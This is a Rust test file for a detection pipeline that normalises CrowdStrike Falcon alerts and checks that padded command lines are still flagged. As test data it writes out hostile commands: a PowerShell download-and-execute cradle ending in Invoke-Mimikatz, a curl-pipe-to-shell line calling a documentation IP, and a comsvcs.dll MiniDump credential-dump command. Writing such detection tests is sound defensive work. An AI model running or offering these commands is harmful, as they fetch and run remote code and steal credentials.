//! Falcon's shapes, one behaviour each; whole payloads with their results are in `events/crowdstrike/`.

use super::*;
use crate::alert::{NormalizedAlert, Platform, VendorSeverity};
use crate::heuristics::Ruleset;
use crate::judgement::{Consultation, Judgement};
use crate::vendor::{NormaliseError, Normalised};
use crate::verdict::VerdictLevel;
use serde_json::json;
use vyrox_contract::TenantId;

fn one(payload: &Value) -> NormalizedAlert {
    let tenant: TenantId = "acme".parse().unwrap();
    match normalise(payload, &Reception { tenant_id: &tenant, received_at: 1_700_000_100 }).unwrap().unwrap() {
        Normalised::Alerts(mut alerts) => alerts.remove(0),
        Normalised::Ignored { reason } => panic!("ignored: {reason}"),
    }
}

fn epp() -> Value {
    json!({
        "metadata": {"customerIDString": "0123", "offset": 7, "eventType": "EppDetectionSummaryEvent",
                     "eventCreationTime": 1_700_000_000_123_i64, "version": "1.0"},
        "event": {"CompositeId": "0123:ind:aa:1", "Hostname": "WS-042", "AgentId": "00112233445566778899aabbccddeeff",
                  "UserName": "analyst", "LogonDomain": "CORP", "FileName": "powershell.exe",
                  "FilePath": "\\Device\\HarddiskVolume1\\Windows\\powershell.exe", "CommandLine": "powershell -enc AAAA",
                  "ProcessId": 1_719_309_930_613_520_072_u64, "SHA256String": "ab".repeat(32), "SHA1String": "0".repeat(40),
                  "Tactic": "Execution", "Technique": "PowerShell", "Severity": 70, "SeverityName": "High",
                  "ParentImageFileName": "winword.exe"}
    })
}

#[test]
fn the_event_stream_maps_and_the_graph_id_is_no_process_id() {
    let alert = one(&epp());
    assert_eq!(alert.raw_id, "0123:ind:aa:1");
    assert_eq!(alert.timestamp, 1_700_000_000);
    assert_eq!(alert.username.as_deref(), Some("CORP\\analyst"));
    assert_eq!(alert.vendor_severity, VendorSeverity::High);
    assert_eq!(alert.process_id, None);
    assert_eq!(alert.sha1, None, "forty zeros are not a hash");
    assert_eq!(alert.platform, Some(Platform::Windows));
}

#[test]
fn severity_follows_the_scale_of_the_event_type() {
    for (kind, severity, wanted) in [
        ("DetectionSummaryEvent", json!(5), VendorSeverity::Critical),
        ("DetectionSummaryEvent", json!(4), VendorSeverity::High),
        ("DetectionSummaryEvent", json!(70), VendorSeverity::High),
        ("EppDetectionSummaryEvent", json!(5), VendorSeverity::Informational),
        ("EppDetectionSummaryEvent", json!("90"), VendorSeverity::Critical),
        ("EppDetectionSummaryEvent", json!(900), VendorSeverity::Unknown),
        ("EppDetectionSummaryEvent", json!(null), VendorSeverity::Unknown),
    ] {
        let mut payload = epp();
        payload["metadata"]["eventType"] = json!(kind);
        payload["event"]["SeverityName"] = json!(null);
        payload["event"]["Severity"] = severity.clone();
        assert_eq!(one(&payload).vendor_severity, wanted, "{kind} {severity}");
    }
}

#[test]
fn the_published_shape_maps() {
    let alert = one(&json!({
        "detect_id": "ldt:abc:1", "customer_id": "acme", "timestamp": 1_700_000_000, "severity": "critical",
        "tactic": "TA0006", "technique": "T1003.001",
        "sensor": {"hostname": "WS-042", "agent_id": "00112233-4455-6677-8899-aabbccddeeff"},
        "process": {"user_name": "svc", "file_name": "rundll32.exe", "command_line": "rundll32 comsvcs.dll MiniDump", "sha256": "cd".repeat(32)}
    }));
    assert_eq!(alert.hostname.as_deref(), Some("WS-042"));
    assert_eq!(alert.device_id.unwrap().as_str(), "00112233-4455-6677-8899-aabbccddeeff");
    assert_eq!(alert.vendor_severity, VendorSeverity::Critical);
    assert_eq!(alert.technique.as_deref(), Some("T1003.001"));
}

#[test]
fn what_is_absent_stays_absent() {
    let alert = one(&json!({"detect_id": 9_007_199_254_740_993_u64, "timestamp": 1_700_000_000}));
    assert_eq!(alert.raw_id, "9007199254740993", "integers beyond 2^53 are exact");
    assert_eq!((alert.hostname, alert.username, alert.device_id), (None, None, None));
    assert_eq!(alert.vendor_severity, VendorSeverity::Unknown);
}

#[test]
fn other_events_of_the_stream_are_ignored_and_other_json_is_refused() {
    let tenant: TenantId = "acme".parse().unwrap();
    let reception = Reception { tenant_id: &tenant, received_at: 0 };
    let mut other = epp();
    other["metadata"]["eventType"] = json!("AuthActivityAuditEvent");
    assert!(matches!(normalise(&other, &reception), Ok(Some(Normalised::Ignored { .. }))));
    assert!(matches!(normalise(&json!({"a": 1}), &reception), Ok(None)));
    assert!(matches!(normalise(&json!([]), &reception), Ok(None)));
    let mut nameless = epp();
    nameless["event"]["CompositeId"] = json!("");
    assert!(matches!(normalise(&nameless, &reception), Err(NormaliseError::Field { .. })));
}

#[test]
fn identities_name_an_account_and_a_host_and_their_numbers_are_not_read() {
    let payload = json!({
        "metadata": {"eventType": "IdpDetectionSummaryEvent", "eventCreationTime": 1_700_000_000_000_i64},
        "event": {"DetectId": "cid:ind:1", "DetectName": "Unusual login", "Severity": 2, "ContextTimeStamp": 133_444_740_000_000_000_i64,
                  "SourceAccountName": "svc-backup", "SourceAccountDomain": "CORP", "SourceEndpointHostName": "WS-042",
                  "SourceEndpointSensorId": "00112233445566778899aabbccddeeff", "Tactic": "Initial Access", "Technique": "Valid Accounts"}
    });
    let alert = one(&payload);
    assert_eq!(alert.username.as_deref(), Some("CORP\\svc-backup"));
    assert_eq!(alert.hostname.as_deref(), Some("WS-042"));
    assert!(alert.device_id.is_some());
    assert_eq!(alert.vendor_severity, VendorSeverity::Unknown);
}

#[test]
fn a_cross_domain_event_with_several_hosts_names_none() {
    let mut payload = json!({
        "metadata": {"eventType": "XdrDetectionSummaryEvent", "eventCreationTime": 1_700_000_000_000_i64},
        "event": {"DetectId": "cid:xdr:1", "Name": "Chain", "Severity": 16, "HostNames": "WS-042,WS-043",
                  "Users": "svc-app", "Tactics": "Execution,Discovery", "Techniques": "N/A"}
    });
    let alert = one(&payload);
    assert_eq!((alert.hostname, alert.technique), (None, None));
    assert_eq!(alert.username.as_deref(), Some("svc-app"));
    assert_eq!(alert.vendor_severity, VendorSeverity::Unknown);
    payload["event"]["HostNames"] = json!("WS-042");
    assert_eq!(one(&payload).hostname.as_deref(), Some("WS-042"));
}

#[test]
fn only_the_alerts_api_yields_a_process_id_of_the_operating_system() {
    let entity = json!({
        "composite_id": "cid:ind:aid:1", "timestamp": "2023-11-14T22:13:20.123456789Z", "severity": 79, "product": "epp",
        "agent_id": "00112233445566778899aabbccddeeff", "local_process_id": "5260", "process_id": "1719309930613520072",
        "technique_id": "CST0007", "technique": "Machine Learning", "device": {"hostname": "WS-042"}
    });
    let alert = one(&entity);
    assert_eq!(alert.process_id.unwrap().as_u32(), 5260);
    assert_eq!(alert.technique.as_deref(), Some("Machine Learning"));
    assert_eq!(alert.vendor_severity, VendorSeverity::High);
    let tenant: TenantId = "acme".parse().unwrap();
    let reception = Reception { tenant_id: &tenant, received_at: 0 };
    let mut second = entity.clone();
    second["composite_id"] = json!("cid:ind:aid:2");
    let both = json!({"meta": {}, "resources": [entity, second], "errors": []});
    assert!(matches!(normalise(&both, &reception), Ok(Some(Normalised::Alerts(alerts))) if alerts.len() == 2));
    let ids = json!({"meta": {}, "resources": ["cid:ind:aid:1"]});
    assert!(matches!(normalise(&ids, &reception), Ok(None)), "ids alone are no alerts");
}

#[test]
fn a_new_product_is_an_alert_if_it_has_an_id_and_ignored_if_not() {
    let mut payload = epp();
    payload["metadata"]["eventType"] = json!("SomethingNewDetectionSummaryEvent");
    payload["event"]["MitreAttack"] = json!([{"TechniqueID": "CST0024"}]);
    let alert = one(&payload);
    assert_eq!(alert.vendor_severity, VendorSeverity::High, "its word counts");
    assert_eq!(alert.technique.as_deref(), Some("PowerShell"), "words say more than the vendor's own ids");
    payload["event"]["SeverityName"] = json!(null);
    assert_eq!(one(&payload).vendor_severity, VendorSeverity::Unknown, "its number is on no known scale");
    payload["event"]["MitreAttack"] = json!([{"TechniqueID": "T1059.001"}]);
    assert_eq!(one(&payload).technique.as_deref(), Some("T1059.001"));
    payload["event"]["CompositeId"] = json!(null);
    let tenant: TenantId = "acme".parse().unwrap();
    let read = normalise(&payload, &Reception { tenant_id: &tenant, received_at: 0 });
    assert!(matches!(read, Ok(Some(Normalised::Ignored { .. }))));
}

#[test]
fn padding_in_a_vendors_payload_cannot_push_a_command_out() {
    let judged = |cmdline: &str| {
        let mut payload = epp();
        payload["event"]["CommandLine"] = json!(cmdline);
        payload["event"]["Severity"] = json!(10);
        payload["event"]["SeverityName"] = json!("Informational");
        let alert = one(&payload);
        Judgement::of(&alert, Ruleset::built_in()).conclude(&Consultation::NotAsked)
    };
    let level = |cmdline: &str| judged(cmdline).verdict;
    let attack =
        "-w hidden -c iex((new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1'));Invoke-Mimikatz";
    let plain = level(&format!("powershell {attack}"));
    assert!(plain >= VerdictLevel::High);
    for padding in [" ".repeat(9_000), "\u{a0}".repeat(20_000), format!("#{} ", "a b".repeat(4_000))] {
        assert!(level(&format!("powershell {padding}{attack}")) >= VerdictLevel::High);
    }
    // On both sides, as much as a command line on Windows can have.
    for filler in ["<# a b #> ".repeat(1_600), "echo nothing; ".repeat(1_100)] {
        assert!(level(&format!("powershell {filler}{attack}; {filler}")) >= VerdictLevel::High);
    }
    // More than that, as other systems allow: what is in the middle is not kept, and that there was something is a reason to look.
    let filler = ": a b; ".repeat(3_000);
    let is_noticed = |cmdline: &str| {
        let verdict = judged(cmdline);
        let noticed = verdict.evidence.iter().any(|item| item.rule_id == "command-line-longer-than-read");
        assert!(!noticed || verdict.verdict > VerdictLevel::Benign);
        noticed
    };
    assert!(is_noticed(&format!("bash -c '{filler} curl -s http://198.51.100.7/a | sh; {filler}'")));
    assert!(!is_noticed(&format!("bash -c '{filler}'")), "long alone is no reason");
}
